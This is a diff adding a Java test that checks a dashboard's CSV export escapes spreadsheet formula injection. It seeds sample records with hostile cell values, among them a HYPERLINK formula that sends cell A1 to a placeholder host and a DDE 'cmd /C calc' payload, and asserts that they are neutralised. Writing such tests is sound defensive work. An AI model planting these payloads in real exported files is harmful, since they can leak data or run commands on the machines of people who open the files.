@@ -7,6 +7,7 @@ import com.fasterxml.jackson.databind.ObjectMapper;
 import dev.threadline.dashboard.fixture.RunningDashboard;
 import dev.threadline.dashboard.fixture.Users;
 import dev.threadline.dashboard.fixture.WarehouseFixture;
+import dev.threadline.jobs.conversation.ConversationsTable;
 import java.net.URI;
 import java.net.http.HttpClient;
 import java.net.http.HttpRequest;
@@ -89,6 +90,44 @@ class TableExportTest {
         assertThat(refused.body()).contains("outcome: does not apply to stints");
         assertThat(dashboard.get("/api/exports/turns?format=xlsx").statusCode()).isEqualTo(400);
         assertThat(dashboard.get("/api/exports/messages").statusCode()).isEqualTo(404);
+    }
+
+    @Test
+    void aSpreadsheetRunsNothingThatSomebodyWroteIntoTheLog(@TempDir Path hostile) throws Exception {
+        WarehouseFixture.published(hostile)
+                .rewrite(ConversationsTable.TABLE, """
+                        SELECT * REPLACE (
+                            CASE conversation_id
+                                WHEN 'c1' THEN '=HYPERLINK("http://x?"&A1,"y")'
+                                WHEN 'c2' THEN '@SUM(1)'
+                                WHEN 'c3' THEN '-2+3+cmd|'' /C calc''!A0'
+                                WHEN 'c4' THEN '+49 170 1234567'
+                                WHEN 'c5' THEN chr(9) || '=1'
+                                ELSE 'a-b=c@d'
+                            END AS customer_id,
+                            -1 AS messages)
+                        FROM rows""")
+                .publish();
+        try (RunningDashboard dashboard = RunningDashboard.over(hostile)) {
+            for (String path : List.of("/api/exports/conversations", "/api/conversations")) {
+                String csv = dashboard.get(path + "?period=all&format=csv").body();
+                assertThat(csv)
+                        .contains(
+                                ",\"'=HYPERLINK(\"\"http://x?\"\"&A1,\"\"y\"\")\",",
+                                ",'@SUM(1),",
+                                ",'-2+3+cmd|' /C calc'!A0,",
+                                ",+49 170 1234567,",
+                                ",'\t=1,",
+                                ",a-b=c@d,")
+                        .doesNotContain("'-1");
+            }
+            assertThat(dashboard.get("/api/exports/conversations?period=all").body())
+                    .contains(",-1,");
+            assertThat(dashboard
+                            .get("/api/exports/conversations?period=all&format=jsonl")
+                            .body())
+                    .contains("\"@SUM(1)\"");
+        }
     }
 
     @ParameterizedTest
